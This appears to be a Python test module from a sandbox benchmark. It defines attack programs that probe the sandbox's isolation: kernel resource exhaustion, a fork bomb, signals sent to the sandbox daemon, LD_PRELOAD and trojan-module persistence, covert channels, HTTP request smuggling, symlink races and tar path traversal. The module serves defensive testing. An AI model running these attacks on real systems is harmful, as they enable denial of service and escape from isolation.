"""Further attacks: objects of the kernel, signals and timers, files, names, the API, neighbours.

Time and the processor's caches as messages are left out: whoever shares a machine has them.
"""

import asyncio
import contextlib
import stat

from espalier.sandbox import SandboxRefused
from tests.benchmarks.attacks.attack import asking, program

_HELD_BY_THE_KERNEL = """
def unreclaimable():
    for line in open("/proc/meminfo"):
        if line.startswith("SUnreclaim:"): return int(line.split()[1]) * 1024
before = unreclaimable()
def held(most):
    grown = unreclaimable() - before
    if grown > most and not T["own_kernel"]: breach(f"{grown >> 20} MiB in the kernel")
"""


def _many(what, processes, most):
    """A text: so many processes do it, each with all its descriptors, then the kernel's share."""
    return f"""{_HELD_BY_THE_KERNEL}
kept = []
def many():
{what}
for _ in range({processes}):
    try:
        if os.fork() == 0:
            try: many()
            except OSError: pass
            time.sleep(60)
    except OSError: break
time.sleep(2.5)
held({most})
"""


def _kernel(name, what):
    return program(
        "resources",
        name,
        _many(what, 36, 400 * 2**20),
        milder=_many(what, 4, 2**18),
        wall_s=8.0,
    )


KERNEL = (
    _kernel(
        "epoll watches, of all by all",
        "    pipes = [os.pipe() for _ in range(60)]\n    import select\n"
        "    for _ in range(120):\n        e = select.epoll()\n"
        "        kept.append(e)\n        for r, w in pipes: e.register(r); e.register(w)\n",
    ),
    _kernel(
        "event and timer descriptors",
        "    while libc.eventfd(1, 0) >= 0 and libc.timerfd_create(1, 0) >= 0: pass\n",
    ),
    program(
        "resources",
        "POSIX timers and queued signals",
        """
made = 0
for _ in range(20000):
    at = ctypes.c_int()
    if libc.syscall(222, 1, struct.pack("qii48x", 0, 34, 0), ctypes.byref(at)) == 0: made += 1
signal.pthread_sigmask(signal.SIG_BLOCK, [35])
info = ctypes.create_string_buffer(struct.pack("iii116x", 35, 0, -1))
for _ in range(20000):
    if libc.syscall(129, os.getpid(), 35, info) == 0: made += 1
if made > 4096 and not T["own_kernel"]: breach(made)
""",
    ),
    program(
        "resources",
        "deep folders, long names, hard links and extended attributes",
        """
name = "n" * 255
try:
    for n in range(200000):
        if n % 100 == 0: os.chdir("/workspace")
        os.makedirs(f"{n % 977}{name}"[:255], exist_ok=True)
        os.chdir(f"{n % 977}{name}"[:255])
        f = os.open("f", os.O_CREAT | os.O_WRONLY)
        for m in range(50): os.link("f", f"{n}-{m}" + "l" * 200)
        with contextlib.suppress(OSError): os.setxattr(f, "user.x", b"x" * 65000)
        os.close(f)
    breach("ten million links")
except OSError: pass
""".replace("with contextlib.suppress(OSError): os", "os"),
        milder="""
os.mkdir("d")
open("f", "w").close()
for m in range(70000): os.link("f", f"d/{m}" + "l" * 200)
breach("70,000 links")
""",
    ),
    program(
        "resources",
        "fifos and local sockets as files",
        """
for n in range(100000):
    os.mkfifo(f"/tmp/{n}")
    with socket.socket(socket.AF_UNIX) as s: s.bind(f"/dev/shm/{n}")
breach("200,000")
""",
        milder="for n in range(70000): os.mkfifo(f'/tmp/{n}')\nbreach('70,000')",
    ),
    program(
        "resources",
        "descriptors in flight, chained",
        """
import array
sent = 0
a, b = socket.socketpair()
try:
    while sent < 20000:
        c, d = socket.socketpair()
        rights = array.array("i", [a.fileno(), b.fileno()])
        c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        a.close(); b.close()
        a, b = c, d
        sent += 1
    if not T["own_kernel"]: breach(sent)
except OSError: pass
""",
        milder="""
import array
a, b = socket.socketpair()
for sent in range(250):
    c, d = socket.socketpair()
    rights = array.array("i", [a.fileno(), b.fileno()])
    c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    a.close(); b.close()
    a, b = c, d
breach(sent)
""",
    ),
    program(
        "resources",
        "pages that other flags than usual hold (locked, huge, grown)",
        """
import mmap
total = 0
for flags in (0x22 | 0x2000, 0x22 | 0x40000, 0x21 | 0x40000, 0x22 | 0x100):
    for _ in range(64):
        try:
            m = mmap.mmap(-1, 2**23, flags=flags)
            for at in range(0, 2**23, 4096): m[at] = 1
            globals().setdefault("kept", []).append(m)
            total += 2**23
        except (OSError, ValueError): break
time.sleep(0.5)
if total > 2**29: breach(total)
""",
        milder="""
import mmap
m = mmap.mmap(-1, 2**28, flags=0x22 | 0x8000)
for at in range(0, 2**28, 4096): m[at] = 1
breach("256 MiB")
""",
        wall_s=8.0,
    ),
    program(
        "resources",
        "many futexes waited for by many threads",
        """
word = ctypes.c_int(0)
def wait(): libc.syscall(202, ctypes.byref(word), 0, 0, None, None, 0)
made = 0
try:
    for _ in range(400):
        threading.Thread(target=wait, daemon=True).start()
        made += 1
except RuntimeError: pass
if made > 200: breach(made)
""",
    ),
    program(
        "resources",
        "an argument and an environment of gigabytes",
        """
words = ["x" * 100000] * 60
for n in range(40):
    try: subprocess.Popen(["sleep", "5", *words], env={str(n): w for n, w in enumerate(words)})
    except OSError: break
else: breach("0.5 GB")
""",
        milder="subprocess.Popen(['sleep', '1', *['x' * 100000] * 15]); breach('1.5 MB')",
    ),
    program(
        "resources",
        "zombies without number",
        """
made = 0
try:
    while made < 3000:
        if os.fork() == 0: os._exit(0)
        made += 1
    breach(made)
except OSError: pass
""",
        milder="""
for made in range(100):
    if os.fork() == 0: os._exit(0)
breach(made)
""",
    ),
)

PROCESSES = (
    program(
        "processes",
        "a fork bomb at the moment of the reset",
        """
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for _ in range(8):
    if os.fork() == 0:
        while True:
            try:
                if os.fork() == 0: os.setsid()
            except OSError: pass
time.sleep(60)
""",
    ),
    program(
        "processes",
        "a parent that waits in vfork for ever",
        """
if os.fork() == 0:
    libc.vfork.restype = ctypes.c_int
    def below(): time.sleep(60)
    clone = libc.syscall(56, 0x4000 | 17, 0, 0, 0, 0)  # CLONE_VFORK
    below()
time.sleep(60)
""",
    ),
    program(
        "processes",
        "a process that ends at the very last moment",
        "time.sleep(3.95)\nfor _ in range(5):\n    if os.fork() == 0: os.setsid(); time.sleep(60)",
    ),
    program(
        "processes",
        "signals by every number, to everyone below",
        """
for _ in range(10):
    if os.fork() == 0:
        while True:
            for n in (18, 19, 20, 21, 22, 23):
                for p in filter(str.isdigit, os.listdir("/proc")):
                    try: os.kill(int(p), n)
                    except OSError: pass
time.sleep(60)
""",
    ),
    program(
        "server",
        "signal, limit and slow down sandboxd's threads",
        """
import resource
threads = {int(t) for p in (1, os.getppid()) for t in os.listdir(f"/proc/{p}/task")}
for t in threads:
    for n in (15, 2, 1): tried(f"kill {t}", lambda: os.kill(t, n) is None)
    tried(f"tkill {t}", lambda: libc.syscall(200, t, 15) == 0)
    tried(f"limit {t}", lambda: resource.prlimit(t, resource.RLIMIT_NOFILE, (0, 0)))
    tried(f"processors {t}", lambda: os.sched_setaffinity(t, {0}) is None)
    tried(f"priority {t}", lambda: os.setpriority(os.PRIO_PROCESS, t, 19) is None)
    tried(f"policy {t}", lambda: os.sched_setscheduler(t, 5, os.sched_param(0)) is None)
""",
    ),
    program(
        "server",
        "peek at sandboxd below /proc without tracing it",
        """
for p in (1, os.getppid()):
    for name in ("smaps", "smaps_rollup", "numa_maps", "pagemap", "map_files", "clear_refs",
                 "personality", "timers", "timerslack_ns", "setgroups", "mem", "stack", "syscall",
                 "fdinfo", "task/1/environ", "task/1/maps", "task/1/fd", "projid_map"):
        path = f"/proc/{p}/{name}"
        if name in ("setgroups", "projid_map", "clear_refs"):
            tried(path, lambda: os.open(path, os.O_WRONLY))
        elif T["own_kernel"] and name == "fdinfo": continue
        else:
            tried(path, lambda: os.listdir(path) if os.path.isdir(path)
                  else open(path, "rb").read(1))
""",
    ),
    program(
        "server",
        "have a descriptor, a lock or a queue signal sandboxd",
        """
r, w = os.pipe()
tried("F_SETOWN_EX", lambda: fcntl.fcntl(r, 15, struct.pack("ii", 1, 1)))
tried("F_NOTIFY", lambda: fcntl.fcntl(os.open("/tmp", os.O_RDONLY), 1026, 2) == 0)
called("mq_notify", 244, 0, struct.pack("qii48x", 0, 9, 0))
m, s = os.openpty()
tried("TIOCSIG", lambda: fcntl.ioctl(m, 0x40045436, 9) == 0 and os.getpgid(1) == os.tcgetpgrp(m))
tried("TIOCSTI", lambda: fcntl.ioctl(s, 0x5412, b"x"))
tried("TIOCSPGRP", lambda: os.tcsetpgrp(s, os.getpgid(os.getppid())) is None)
""",
    ),
    program(
        "server",
        "odd flags of clone, prctl and personality",
        """
for flags in (0x8000 | 17, 0x80000000 | 0x10000 | 17, 0x10000000 | 17, 0x2000000 | 17):
    if flags & 0x12010000: called(hex(flags), 56, flags, 0, 0, 0, 0)
called("PR_SET_MM", 157, 35, 1, 4096, 0, 0)
called("PR_SCHED_CORE", 157, 62, 1, 1, 1, 0)
called("PR_SET_SECCOMP", 157, 22, 2, bytes(16), 0, 0)
called("PR_CAPBSET_DROP", 157, 24, 0, 0, 0, 0)
called("PR_SET_KEEPCAPS and root", 105, 0)
called("READ_IMPLIES_EXEC", 135, 0x0400000)
called("ADDR_NO_RANDOMIZE", 135, 0x0040000)
""",
    ),
    program(
        "rights",
        "race of limits: raise them while a child is born",
        """
import resource
def raised():
    for n in range(16):
        soft, hard = resource.getrlimit(n)
        if hard == -1: continue
        try: resource.setrlimit(n, (hard + 1, hard + 1))
        except (OSError, ValueError): continue
        breach(f"limit {n}")
for _ in range(8): threading.Thread(target=raised).start()
for _ in range(8):
    try:
        if os.fork() == 0: raised(); os._exit(0)
    except OSError: pass
""",
    ),
    program(
        "resources",
        "stop and go: be stopped when the limit is sampled",
        """
import mmap
for n in range(30):
    if os.fork() == 0:
        while True:
            held = mmap.mmap(-1, 2**24, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            for at in range(0, 2**24, 4096): held[at] = 1
            os.kill(os.getpid(), signal.SIGSTOP)
time.sleep(3)
if sum(1 for p in os.listdir("/proc") if p.isdigit()) > 28: breach("30 x 16 MiB")
""",
        wall_s=8.0,
    ),
    program(
        "resources",
        "hide memory from whoever counts it",
        """
libc.prctl(4, 0, 0, 0, 0)
import mmap
held = mmap.mmap(-1, 2**30)
for at in range(0, 2**30, 2**21):
    held[at:at + 2**21] = b"x" * 2**21
    held.madvise(mmap.MADV_DONTNEED, at, 2**21)
time.sleep(0.5)
breach("1 GiB")
""",
        milder="""
libc.prctl(4, 0, 0, 0, 0)
tried("maps", lambda: not os.access("/proc/self/maps", os.R_OK) or os.stat("/proc/self/maps"))
""",
        wall_s=8.0,
    ),
)

FILES = (
    program(
        "files",
        "devices that are there, and what they reach",
        """
nothing = os.stat("/dev/null").st_rdev  # what a masked one is
for name in ("console", "kmsg", "tty0", "ttyS0", "vcs", "mem", "tty"):
    tried(name, lambda: os.stat(f"/dev/{name}").st_rdev != nothing
          and os.open(f"/dev/{name}", os.O_RDWR | os.O_NOCTTY))
tried("node", lambda: os.mknod("/tmp/n", stat.S_IFCHR | 0o666, os.makedev(5, 1)) is None)
tried("chmod", lambda: os.chmod("/dev/null", 0o777) is None)
tried("times", lambda: os.utime("/dev/null", (1, 1)) is None)
""",
        milder="tried('tty', lambda: os.stat('/dev/tty'))",
    ),
    program(
        "files",
        "flags, lists of rights and attributes of the shared folders",
        """
for folder in ("/workspace", "/tmp", "/dev/shm"):
    f = os.open(folder, os.O_RDONLY)
    tried("immutable", lambda: fcntl.ioctl(f, 0x40086602, struct.pack("q", 0x10)) is not None)
    tried("append", lambda: fcntl.ioctl(f, 0x40086602, struct.pack("q", 0x20)) is not None)
    for name in ("trusted.x", "security.x", "security.capability"):
        tried(name, lambda: os.setxattr(folder, name, b"x") is None)
""",
    ),
    program(
        "others",
        "modes, owners, flags and attributes tell the next borrower",
        """
for folder in ("/workspace", "/tmp", "/dev/shm"):
    f = os.open(folder, os.O_RDONLY)
    for work in (lambda: os.chmod(folder, 0o1733), lambda: os.setxattr(folder, "user.x", b"x"),
                 lambda: fcntl.ioctl(f, 0x40086602, struct.pack("q", 0x40)),
                 lambda: os.setxattr(folder, "system.posix_acl_default", b"x")):
        try: work()
        except OSError: pass
open("/workspace/kept", "w").close()
""",
        then="""
for folder in ("/workspace", "/tmp", "/dev/shm"):
    if os.listxattr(folder) or os.stat(folder).st_mode & 0o7777 == 0o1733: breach(folder)
    flags = bytearray(8)
    try: fcntl.ioctl(os.open(folder, os.O_RDONLY), 0x80086601, flags)
    except OSError: continue
    if flags[0] & 0x40: breach("nodump")
if os.path.exists("/workspace/kept"): breach("a file")
""",
    ),
    program(
        "others",
        "attributes of the folders alone tell the next borrower",
        """
for folder in ("/workspace", "/tmp", "/dev/shm"):
    f = os.open(folder, os.O_RDONLY)
    tried("", lambda: fcntl.ioctl(f, 0x40086602, struct.pack("Q", 0xC0)) and None)
""",
        then="""
for folder in ("/workspace", "/tmp", "/dev/shm"):
    flags = bytearray(8)
    try: fcntl.ioctl(os.open(folder, os.O_RDONLY), 0x80086601, flags)
    except OSError: continue
    if flags[0] & 0xC0: breach(folder)
""",
    ),
    program(
        "others",
        "times of the folder of terminals tell the next borrower",
        """
for path in ("/dev/pts", "/dev/pts/ptmx"):
    tried("", lambda: os.utime(path, (10**9, 10**9)))
""",
        then="""
for path in ("/dev/pts", "/dev/pts/ptmx"):
    if 10**9 in (os.stat(path).st_mtime, os.stat(path).st_atime): breach(path)
""",
    ),
    program(
        "others",
        "modules, customisations and programs of another name for the next borrower",
        """
site = f"/workspace/.local/lib/python3.{sys.version_info[1]}/site-packages"
os.makedirs(f"{site}/__pycache__", exist_ok=True)
os.makedirs("/workspace/__pycache__", exist_ok=True)
for name in ("numpy", "json", "os", "hashlib", "sitecustomize", "usercustomize", "resource"):
    for folder in ("/workspace", "/tmp", site):
        with open(f"{folder}/{name}.py", "w") as file: file.write("print('BREACH imported')\\n")
with open(f"{site}/x.pth", "w") as file: file.write("import sys; print('BREACH pth')\\n")
for name in ("python", "python3", "sh", "ls"):
    with open(f"/workspace/{name}", "w") as file: file.write("#!/bin/sh\\necho BREACH run\\n")
    os.chmod(f"/workspace/{name}", 0o755)
""",
        then="sys.path.insert(0, '/workspace')\nimport sitecustomize, resource, numpy",
    ),
    program(
        "others",
        "variables that another run would take over",
        """
for name in ("LD_PRELOAD", "PYTHONSTARTUP", "PYTHONPATH", "PYTHONINSPECT", "BASH_ENV", "PATH"):
    os.environ[name] = "/workspace/x"
    tried(name, lambda: open("/etc/environment", "a").write(f"{name}=x"))
    tried(name, lambda: open("/etc/ld.so.preload", "a").write("/workspace/x.so"))
    tried(name, lambda: open("/proc/1/environ", "a"))
""",
        milder="""
os.environ["LD_PRELOAD"] = "/workspace/x"
if b"/workspace/x" in subprocess.run(["env"], capture_output=True).stdout: breach("a child")
""",
    ),
    program(
        "others",
        "a terminal that waits for the next borrower",
        """
m, s = os.openpty()
os.write(m, b"hello")
if os.fork() == 0:
    os.setsid()
    time.sleep(60)
""",
        then="if [n for n in os.listdir('/dev/pts') if n.isdigit()]: breach('a terminal')",
    ),
    program(
        "others",
        "a local socket and a name without a path for the next borrower",
        """
s = socket.socket(socket.AF_UNIX)
s.bind("\\0left")
s.listen()
if os.fork() == 0:
    os.setsid()
    time.sleep(60)
""",
        then="with socket.socket(socket.AF_UNIX) as s:\n"
        "    tried('connected', lambda: s.connect('\\0left') or True)",
    ),
    program(
        "others",
        "a hint of use on a shared file or device for the next borrower",
        """
for path in (sys.executable, os.__file__, "/dev/null", "/dev/zero"):
    f = open(path, "rb")
    for command in (1036, 1038):  # F_SET_RW_HINT, F_SET_FILE_RW_HINT
        tried(f"{path} by {command}", lambda: fcntl.fcntl(f, command, struct.pack("Q", 4)) and True)
""",
        then="""
for path in (sys.executable, os.__file__, "/dev/null", "/dev/zero"):
    try: (hint,) = struct.unpack("Q", fcntl.fcntl(open(path, "rb"), 1035, bytes(8)))
    except OSError: continue
    if hint: breach(f"{path}: {hint}")
""",
        milder="""
f = open("/tmp/own", "wb")
tried("a hint", lambda: fcntl.fcntl(f, 1036, struct.pack("Q", 4)) and True)
""",
    ),
)

NEIGHBOURS = (
    program(
        "others",
        "tell a neighbour by locks that the machine lists",
        """
f = open("/tmp/locked", "w")
tried("", lambda: fcntl.fcntl(f, 37, struct.pack("hhqqi4x", 1, 0, 777777, 1, 0)) and None)
time.sleep(1.5)
""",
        elsewhere="""
for _ in range(10):
    tried("read from the list", lambda: " 777777 777777" in open("/proc/locks").read())
    time.sleep(0.2)
""",
    ),
    program(
        "others",
        "tell a neighbour by the times of a device",
        """
m, s = os.openpty()
os.open(os.ttyname(s), os.O_RDWR)
tried("", lambda: os.write(os.open("/dev/tty", os.O_RDWR), b"x") and None)
time.sleep(1)
""",
        elsewhere="""
seen = set()
for _ in range(10):
    seen.add(tuple((n, os.stat(f"/dev/{n}").st_mtime_ns) for n in ("null", "tty", "zero")))
    time.sleep(0.2)
if len(seen) > 1: breach("a device's time")
""",
        milder="""
m, s = os.openpty()
os.set_blocking(m, False)
at = os.stat(os.ttyname(s)).st_mtime_ns
time.sleep(9)
os.write(s, b"x")
if os.stat(os.ttyname(s)).st_mtime_ns != at: breach("the time of a terminal")
""",
    ),
    program(
        "others",
        "tell a neighbour by a lock on a file that both read",
        """
f = open(sys.executable, "rb")
fcntl.flock(f, fcntl.LOCK_EX)
time.sleep(1.5)
""",
        elsewhere="""
f = open(sys.executable, "rb")
for _ in range(10):
    try: fcntl.flock(f, fcntl.LOCK_SH | fcntl.LOCK_NB)
    except BlockingIOError: breach("the lock is held"); break
    fcntl.flock(f, fcntl.LOCK_UN)
    time.sleep(0.2)
""",
    ),
    program(
        "others",
        "datagrams to a neighbour: loopback, link-local, multicast, names without a path",
        """
for family, place in ((2, ("127.0.0.1", 33333)), (2, ("224.0.0.1", 33333)), (10, ("::1", 33333)),
                      (10, ("ff02::1", 33333)), (1, "\\0neighbour")):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            for _ in range(5):
                s.sendto(b"hello", place)
                time.sleep(0.1)
    except OSError: pass
""",
        elsewhere="""
held = []
for family, place in ((2, ("0.0.0.0", 33333)), (10, ("::", 33333)), (1, "\\0neighbour")):
    try:
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.bind(place)
        s.settimeout(0.8)
        held.append(s)
    except OSError: pass
for s in held: tried("datagram", lambda: s.recv(9))
""",
    ),
    program(
        "others",
        "tell a neighbour by queues, memory and marks of System V and POSIX",
        """
called("shmget", 29, 0x777, 4096, 0o1666)
called("msgget", 68, 0x777, 0o1666)
called("semget", 64, 0x777, 1, 0o1666)
called("mq_open", 240, b"q", 0o102, 0o666, 0)
called("add_key", 248, b"user", b"x", b"x", 1, -4)
called("keyctl join", 250, 1, b"x", 0, 0, 0)
""",
    ),
    program(
        "others",
        "what a neighbour runs, seen by counters of processes",
        """
for path in ("/proc/sched_debug", "/proc/timer_list", "/proc/latency_stats", "/proc/keys",
             "/proc/sysvipc/shm", "/proc/net/unix"):
    try: text = open(path).read()
    except OSError: continue
    if path == "/proc/net/unix" and any(line.split()[-1].startswith(("/", "@"))
        for line in text.splitlines()[1:] if len(line.split()) > 7): breach(path)
    elif path != "/proc/net/unix" and len(text.splitlines()) > 1: breach(path)
tried("debugfs", lambda: os.listdir("/sys/kernel/debug"))
tried("tracefs", lambda: os.listdir("/sys/kernel/tracing"))
""",
    ),
)


async def _raw(sandbox, said, count=1, *, answers=True):
    """Send bytes to the sandbox's server, past the client; what it answers."""
    path = getattr(getattr(sandbox, "_process", None), "socket_path", None)
    path = path or getattr(sandbox, "_socket_path", None)
    host, port = sandbox.http.base_url.host, sandbox.http.base_url.port
    opened, found = [], []
    for _ in range(count):
        opened.append(
            await (
                asyncio.open_unix_connection(str(path))
                if path
                else asyncio.open_connection(host, port)
            )
        )
        opened[-1][1].write(said)
    for reader, _ in opened if answers else ():
        with contextlib.suppress(TimeoutError, OSError):
            async with asyncio.timeout(1.0):
                found.append(await reader.read(65536))
    return opened, found


async def _smuggled(sandbox, _):
    breaches = []
    token = sandbox.http.headers["authorization"].encode()
    body = b'{"argv": ["touch", "smuggled"]}'
    inner = b"POST /run HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body)
    for name, said in {
        "two lengths": b"POST /run HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n"
        b"content-length: %d\r\n\r\n%s" % (len(inner), inner),
        "length and chunks": b"POST /run HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\n"
        b"transfer-encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
        "two tokens": b"POST /run HTTP/1.1\r\nhost: x\r\nauthorization: Bearer x\r\n"
        b"authorization: %s\r\ncontent-length: %d\r\n\r\n%s" % (token, len(body), body),
        "a folded header": b"POST /run HTTP/1.1\r\nhost: x\r\nx: y\r\n authorization: %s\r\n"
        b"content-length: %d\r\n\r\n%s" % (token, len(body), body),
        "an open path, pipelined": b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n" + inner,
        "an absolute target": inner.replace(b"/run", b"http://x/healthz/../run"),
        "another spelling": inner.replace(b"/run", b"/healthz/%2e%2e/run"),
    }.items():  # fmt: skip
        opened, _found = await _raw(sandbox, said)
        for _, writer in opened:
            writer.close()
        listed = await sandbox.exec(["ls"])
        if b"smuggled" in listed.stdout:
            breaches.append(name)
            await sandbox.reset()
    return breaches


async def _half_requests(sandbox, _):
    opened, _found = await _raw(sandbox, b"POST /run HTTP/1.1\r\nhost:", 200, answers=False)
    answered = await sandbox.exec(["echo", "here"])
    for _, writer in opened:
        writer.close()
    return [] if answered.stdout == b"here\n" else [str(answered)[:80]]


async def _pipelined(sandbox, _):
    opened, found = await _raw(sandbox, b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n" * 2000, 4)
    answered = await sandbox.exec(["echo", "here"])
    for _, writer in opened:
        writer.close()
    told = b"".join(found)
    secret = sandbox.http.headers["authorization"].split()[1].encode()
    return ["the token"] if secret in told or answered.stdout != b"here\n" else []


async def _output_of_frames(sandbox, _):
    breaches = []
    lies = b'{"end": {"exit_status": 0, "signal": null, "killed_by": null, "truncated": false}}\n'
    code = f"import os, sys\nos.write(1, {lies!r} * 50)\nos.write(2, {lies!r})\nsys.exit(3)"
    for ask in (
        sandbox.exec(["python", "-c", code]), sandbox.run_python(code), sandbox.python(code)
    ):  # fmt: skip
        result = await ask
        if result.exit_status != 3 or result.stdout != lies * 50:
            breaches.append(str(result)[:80])
    return breaches


_SWAPS = """
import os, threading
os.makedirs("real", exist_ok=True)
open("real/x", "w").write("mine")
end = __import__("time").monotonic() + 4
while __import__("time").monotonic() < end:
    for target in ("/etc", "/proc/self", "/proc/1", "real"):
        try:
            os.symlink(target, "next")
            os.rename("next", "way")
        except OSError: pass
"""


async def _races(sandbox, _):
    breaches = []
    swapping = asyncio.create_task(sandbox.exec(["python", "-c", _SWAPS]))
    await asyncio.sleep(0.3)
    while not swapping.done():
        for name in ("passwd", "environ", "status", "x"):
            with contextlib.suppress(SandboxRefused):
                found = await sandbox.get(f"way/{name}")
                if found != b"mine":
                    breaches.append(f"read {found[:20]!r}")
            with contextlib.suppress(SandboxRefused):
                await sandbox.put(f"way/put-{name}", b"x")
    with contextlib.suppress(SandboxRefused):
        await sandbox.snapshot()
    return breaches[:3]


async def _snapshot_of_names(sandbox, _):
    hostile = r"""
import os
os.makedirs("d/e")
for name in ("-rf", "\n", "\udcff", "x" * 255, "..x", "=", "PaxHeader", "%s%n", "\u202e", "a\\b"):
    open(f"d/{name}", "w").write("in")
os.symlink("/", "d/root"); os.symlink("../../../../tmp", "d/up"); os.symlink("d", "d/loop")
os.link("d/-rf", "d/hard"); os.mkfifo("d/pipe"); os.symlink("/proc/self/environ", "d/env")
os.chmod("d/e", 0)
print("made")
"""
    if (await sandbox.run_python(hostile)).stdout != b"made\n":
        return ["it could not be made"]
    with contextlib.suppress(SandboxRefused):
        kept = await sandbox.snapshot()
        await sandbox.run_python("import shutil; shutil.rmtree('d', ignore_errors=True)")
        await sandbox.reset(kept)
    seen = await sandbox.run_python(
        "import os\nprint(sorted(os.listdir('/tmp')), os.path.islink('d/root'), "
        "os.stat('d/e').st_mode if os.path.exists('d/e') else '')"
    )
    await sandbox.reset()
    left = (await sandbox.exec(["ls", "-A"])).stdout
    return [repr(seen.stdout)] if b"[]" not in seen.stdout or left else []


async def _swallowed_input(sandbox, _):
    result = await sandbox.exec(
        ["python", "-c", "import os\nos.lseek(0, 0, 0)\ntry: os.write(0, b'x')\n"
         "except OSError: pass\nprint(len(os.read(0, 2**20)))"], stdin=b"y" * 1000
    )  # fmt: skip
    again = await sandbox.exec(["cat"], stdin=b"z")
    return [] if (result.stdout, again.stdout) == (b"1000\n", b"z") else [str(result)[:80]]


async def _chmodded(sandbox, _):
    """Folders closed to their own user while the server writes, reads, saves and resets."""
    assert stat.S_IRWXU
    closed = "import os\nos.makedirs('a/b')\nos.chmod('a/b', 0)\nos.chmod('a', 0)\n"
    await sandbox.run_python(closed + "try: os.chmod('.', 0)\nexcept OSError: pass")
    for ask in (sandbox.put("a/x", b"x"), sandbox.get("a/b/x"), sandbox.snapshot()):
        with contextlib.suppress(SandboxRefused):
            await ask
    await sandbox.reset()
    left = await sandbox.exec(["ls", "-A"])
    return [] if left.stdout == b"" and left.exit_status == 0 else [str(left)[:80]]


_NAIVE = {
    "smuggled": """
said = b"POST /a HTTP/1.1\\r\\ncontent-length: 0\\r\\ncontent-length: 22\\r\\n\\r\\n"
said += b"POST /b HTTP/1.1\\r\\n\\r\\n"
heads = [part for part in said.split(b"\\r\\n\\r\\n") if part.startswith(b"POST")]
if len(heads) == 2: breach("who takes the first length sees two requests")
""",
    "half": """
with socket.create_server(("127.0.0.1", 0)) as server:
    held = socket.create_connection(server.getsockname())
    held.sendall(b"POST /run HTTP/1.1\\r\\nhost:")
    first = server.accept()[0]
    first.settimeout(1)
    first.recv(99)
    try: first.recv(99)
    except TimeoutError: breach("who reads one request at a time waits for ever")
""",
    "frames": """
end = '{"end": {"exit_status": 0}}'
done = subprocess.run([sys.executable, "-c", f"print({end!r}); exit(3)"], capture_output=True)
if json.loads(done.stdout)["end"]["exit_status"] != done.returncode: breach("output is the end")
""",
    "links": """
os.symlink("/proc/self", "way")
tried("open", lambda: open("way/status").read(1))
""",
    "names": """
import io, tarfile
packed = io.BytesIO()
with tarfile.open(fileobj=packed, mode="w") as archive:
    archive.addfile(tarfile.TarInfo("../tmp/out"), io.BytesIO())
packed.seek(0)
with tarfile.open(fileobj=packed) as archive:
    archive.extraction_filter = lambda member, _: member
    archive.extractall("/workspace")
if os.path.exists("/tmp/out"): breach("who unpacks any name writes elsewhere")
""",
    "input": """
with open("input", "w+b") as file:
    file.write(b"y" * 10)
    file.seek(0)
    child = "import os; os.write(0, b'x')"
    subprocess.run([sys.executable, "-c", child], stdin=file)
if open("input", "rb").read() != b"y" * 10: breach("an input that is a file is written")
""",
    "closed": """
os.makedirs("a/b")
os.chmod("a", 0)
try: os.listdir("a")
except PermissionError: breach("who does not open it first cannot empty it")
""",
}
"""For those who ask: the same act against whoever takes no care."""

ASKED = (
    asking(
        "server",
        "requests in requests, and headers that say two things",
        _smuggled,
        milder=_NAIVE["smuggled"],
    ),
    asking("server", "two hundred half requests", _half_requests, milder=_NAIVE["half"]),
    asking("server", "8,000 pipelined requests", _pipelined),
    asking(
        "server",
        "output that looks like the end of a run",
        _output_of_frames,
        milder=_NAIVE["frames"],
    ),
    asking(
        "files", "links swapped while files are put, got and saved", _races, milder=_NAIVE["links"]
    ),
    asking(
        "files", "a snapshot of hostile names and links", _snapshot_of_names, milder=_NAIVE["names"]
    ),
    asking(
        "files",
        "input that is written, moved and read again",
        _swallowed_input,
        milder=_NAIVE["input"],
    ),
    asking("files", "folders closed to the server", _chmodded, milder=_NAIVE["closed"]),
)

ATTACKS = (*KERNEL, *PROCESSES, *FILES, *NEIGHBOURS, *ASKED)
